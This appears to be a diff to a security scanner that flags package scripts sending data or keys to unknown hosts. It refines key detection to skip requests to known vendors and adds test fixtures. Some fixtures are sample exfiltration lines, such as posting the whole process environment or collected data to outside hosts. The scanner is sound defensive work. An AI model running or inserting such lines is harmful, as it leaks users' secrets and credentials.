@@ -89,10 +89,10 @@ def look(package: Package) -> Iterator[Remark]:
 
 def _of_strangers(program: bytes) -> Iterator[tuple[Rule, str, int, bytes]]:
     """Yield requests without a key to hosts of nobody known: rule, owner, place and request."""
-    shows_key = _KEY_SHOWN.search(program) is not None
     runs = _RUNS.search(program) is not None
     by_name = requests.hosts_by_name(requests.assigned(program))
     asked = list(requests.of(program))
+    shows_key = _KEY_SHOWN.search(_without_vendors(program, asked, by_name)) is not None
     for start, request in asked:
         owner = vendors.stranger(requests.host(request, by_name))
         if not owner:
@@ -107,6 +107,17 @@ def _of_strangers(program: bytes) -> Iterator[tuple[Rule, str, int, bytes]]:
         for host in by_name.values():
             if owner := vendors.stranger(host):
                 yield _RUN, owner, program.find(host.encode()), host.encode()
+
+
+def _without_vendors(
+    program: bytes, asked: list[tuple[int, bytes]], by_name: dict[bytes, str]
+) -> bytes:
+    """Return a program without what it asks of vendors: a key shown to one is no stranger's."""
+    for _, request in asked:
+        host = requests.host(request, by_name)
+        if host and not vendors.stranger(host):
+            program = program.replace(request, b"")
+    return program
 
 
 def _files_to_strangers(commands: bytes) -> Iterator[tuple[Rule, str, int, bytes]]:
@@ -149,6 +160,12 @@ POSITIVE: Mapping[str, tuple[Mapping[str, bytes], ...]] = {
             "content/scripts/seat.js": (
                 b"const seats = 'https://lic.tide-docs.net';\n"
                 b"await axios.post(seats + '/seat', JSON.stringify(process.env));\n"
+            )
+        },
+        {
+            "content/scripts/a.py": (
+                b"requests.post('https://a.tide-docs.net/in', json=found)\n"
+                b"requests.get('https://api.github.com/user', headers={'Authorization': key})\n"
             )
         },
         {
